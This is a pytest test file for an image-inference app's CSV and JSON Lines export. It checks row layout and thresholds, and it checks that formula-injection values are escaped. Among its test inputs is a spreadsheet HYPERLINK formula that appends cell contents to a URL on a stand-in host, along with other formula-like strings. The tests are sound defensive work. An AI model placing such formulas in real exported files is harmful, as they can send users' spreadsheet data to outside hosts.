import csv
import json

import numpy as np
import pytest

from infer_app.ask.export.formats.tables import IMAGE, OBJECT, OUTPUT, csv_line, write_csv, write_jsonl
from infer_app.cli.terminal.output import print_csv
from tests.support.exports import (
    CAT,
    DOG,
    HOSTILE,
    HOSTILE_PATH,
    LOW,
    classified,
    detected,
    export_of,
    tagged,
    with_output,
)

IMAGE_1 = ["1", "/srv/photos/1.jpg", "2026-11-20", "animals", "0123456789abcdef", "cpu-openvino-fp32", "640", "480"]
FORMULA = '=HYPERLINK("http://host/?"&A1)'


def csv_of(path, *images, **options):
    write_csv(path, export_of(*images, **options))
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def jsonl_of(path, *images, **options):
    write_jsonl(path, export_of(*images, **options))
    return [json.loads(line) for line in path.read_text("ascii").splitlines()]


def test_an_object_is_a_row_and_an_image_without_one_too(tmp_path):
    images = detected("1", CAT, LOW, DOG), detected("2", LOW)
    rows = csv_of(tmp_path / "a.csv", *images, thresholds={"": 0.5})
    assert rows == [
        [*IMAGE, *OBJECT],
        [*IMAGE_1, "0", "cat", "0", "0.75", "0.25", "0.5", "0.125", "0.25", "160.0", "240.0", "240.0", "360.0"],
        [*IMAGE_1, "2", "dog", "2", "0.5", "0.0", "0.0", "1.0", "1.0", "0.0", "0.0", "640.0", "480.0"],
        ["2", "/srv/photos/2.jpg", *IMAGE_1[2:], *[""] * 12],
    ]


def test_json_lines_have_the_rows_of_csv(tmp_path):
    images = detected("1", CAT, LOW, DOG), detected("2")
    rows = csv_of(tmp_path / "a.csv", *images)
    assert [list(row) for row in jsonl_of(tmp_path / "a.jsonl", *images)] == [rows[0]] * 4
    for line, row in zip(jsonl_of(tmp_path / "a.jsonl", *images), rows[1:], strict=True):
        assert ["" if value is None else str(value) for value in line.values()] == row


def test_hostile_labels_and_paths_are_read_back(tmp_path):
    image = detected('=1,"', CAT._replace(label=HOSTILE), DOG._replace(label=FORMULA), location=HOSTILE_PATH)
    _, row, formula = csv_of(tmp_path / "a.csv", image)
    assert (row[0], row[1], row[9]) == ("'=1,\"", HOSTILE_PATH.replace("\udcff", "\\udcff"), HOSTILE)
    assert formula[9] == f"'{FORMULA}"
    line, _ = jsonl_of(tmp_path / "a.jsonl", image)
    assert (line["image_id"], line["location"], line["label"]) == ('=1,"', HOSTILE_PATH, HOSTILE)


def test_a_classification_and_a_regression_are_a_row_for_each_image(tmp_path):
    image = classified("1", **{FORMULA: 0.75, "dog": 0.25})
    head, row = csv_of(tmp_path / "a.csv", image, kind="classification")
    assert head == [*IMAGE, *OUTPUT]
    output = json.dumps(image.output.details)
    assert row == [*IMAGE_1, f"'{FORMULA}", "0.75", output, "", "ab" * 32, "2026-11-21T03:00:00.000500+00:00"]
    images = with_output("1", score=2.5), with_output("2", details={"values": [1.0, 2.0]})
    one, several = jsonl_of(tmp_path / "a.jsonl", *images, kind="regression")
    assert (one["score"], one["label"], several["output"]) == (2.5, None, {"values": [1.0, 2.0]})


def test_what_is_under_a_threshold_is_left_out_and_its_image_stays(tmp_path):
    images = classified("1", cat=0.75, dog=0.25), classified("2", fox=0.375), tagged("3", cat=0.75, dog=0.25)
    rows = jsonl_of(tmp_path / "a.jsonl", *images, kind="classification", thresholds={"": 0.5})
    assert [(row["label"], row["score"]) for row in rows] == [("cat", 0.75), (None, None), ("cat", 0.75)]
    cat = {"label": "cat", "index": 0, "score": 0.75}
    assert [row["output"] for row in rows] == [{"top": [cat]}, {"top": []}, {"threshold": 0.2, "labels": [cat]}]


def test_a_vector_is_never_abbreviated(tmp_path):
    vector = np.random.default_rng(1).normal(size=2000).astype(np.float32)
    half = vector.astype(np.float16)
    images = with_output("1", vector=vector.tolist()), with_output("2", vector=half.tolist(), dtype="float16")
    _, *rows = csv_of(tmp_path / "a.csv", *images, kind="embedding")
    assert np.array_equal(np.array(json.loads(rows[0][11]), np.float32), vector)
    assert np.array_equal(np.array(json.loads(rows[1][11]), np.float16), half)
    lines = jsonl_of(tmp_path / "a.jsonl", *images, kind="embedding")
    assert np.array_equal(np.array(lines[0]["vector"], np.float32), vector)


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3|x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-"])
def test_a_text_that_begins_like_a_formula_is_quoted(text):
    assert list(csv.reader([csv_line(["a", text])])) == [["a", f"'{text}"]]


@pytest.mark.parametrize("value", [-0.5, -7, "-7", "+1.5e3", "-inf", "a=b", "'", "/-x.jpg", '{"a": -1}', "", None])
def test_numbers_and_other_texts_stay(value):
    assert list(csv.reader([csv_line([value, 1])])) == [["" if value is None else str(value), "1"]]


def test_lists_hold_no_formula(capsys):
    print_csv([{"image_id": "-x", "label": FORMULA, "score": -0.5, "other": 1}], ["image_id", "label", "score"])
    [row] = csv.DictReader(capsys.readouterr().out.splitlines())
    assert row == {"image_id": "'-x", "label": f"'{FORMULA}", "score": "-0.5"}
